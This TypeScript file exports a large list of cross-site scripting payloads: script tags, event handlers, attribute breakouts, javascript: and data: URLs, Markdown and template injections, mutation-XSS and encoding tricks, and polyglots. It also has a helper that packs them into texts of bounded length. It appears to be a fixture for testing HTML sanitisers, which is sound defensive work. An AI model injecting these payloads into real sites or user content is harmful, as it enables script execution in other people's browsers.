/**
 * Words that would do something if they ever were more than words. Of the kinds that OWASP's XSS
 * Filter Evasion cheat sheet, PortSwigger's cheat sheet, the mutation XSS of cure53's research and the
 * polyglots of the field know; whatever they would do, they would show a dialog or ask another host.
 */
export const payloads: readonly string[] = [
  // Script elements.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://elsewhere.invalid/x.js></SCRIPT>",
  "</script><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\x20type=text/javascript>alert(1);</script>",
  "<<SCRIPT>alert(1);//\\<</SCRIPT>",
  "<script src=data:text/javascript,alert(1)></script>",
  "<script>import('https://elsewhere.invalid/x.js')</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // Event handlers.
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(String.fromCharCode(88,83,83))">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
  "<img/src='x'/onerror=alert(1)>",
  "<img src=x:x onerror=\u0061lert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert`1`>",
  "<svg><script>alert&#40;1&#41;</script>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>here</text></a>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<object data=x onerror=alert(1)>",
  "<div onpointerover=alert(1) style=position:fixed;inset:0>over</div>",
  "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
  '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend=alert(1)></xss>',
  // Out of an attribute.
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  "` onmouseover=alert(1) x=`",
  "x onclick=alert(1)//",
  // Addresses that run.
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\u200Bscript:alert(1)",
  "&#106;avascript:alert(1)",
  "jav&#x09;ascript:alert(1)",
  "javascript://example.org/%0Aalert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  '<a href="javascript:alert(1)">here</a>',
  "<a href=javas&#99;ript:alert(1)>here</a>",
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  "<button formaction=javascript:alert(1)>here</button>",
  '<base href="https://elsewhere.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://elsewhere.invalid/">',
  "<link rel=stylesheet href=https://elsewhere.invalid/x.css>",
  "<img src=https://elsewhere.invalid/x.png>",
  "<style>@import'https://elsewhere.invalid/x.css';</style>",
  '<div style="background:url(https://elsewhere.invalid/x.png)">x</div>',
  // Markdown.
  "[here](javascript:alert(1))",
  "[here](<javascript:alert(1)>)",
  "![x](https://elsewhere.invalid/x.png)",
  '![x"onerror="alert(1)](x)',
  "[here]: javascript:alert(1)",
  "<javascript:alert(1)>",
  '<https://elsewhere.invalid/"onmouseover=alert(1)//>',
  "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "```html <script>alert(1)</script> ```",
  // Templates.
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}${alert(1)}#{alert(1)}<%= alert(1) %>",
  "${{constructor.constructor('alert(1)')()}}",
  "{count, plural, one {<b>x</b>} other {#}}",
  // What a sanitiser would change into something else.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<table><td background=javascript:alert(1)>",
  // Entities, encodings, directions.
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
  "\u202E<script>alert(1)</script>\u202C",
  "\u2067abc\u2066<img src=x onerror=alert(1)>",
  // Many places at once.
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
  '">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>',
  "'\"--></style></script><svg onload=alert(1)>",
];

/**
 * The payloads, as many in one text as it may hold.
 * @param max characters of a text, at most; what is longer alone is left out
 */
export function packed(max: number, separator = " "): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    if (payload.length > max) continue;
    const last = texts.at(-1);
    const longer = last === undefined ? payload : last + separator + payload;
    if (last !== undefined && longer.length <= max) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}
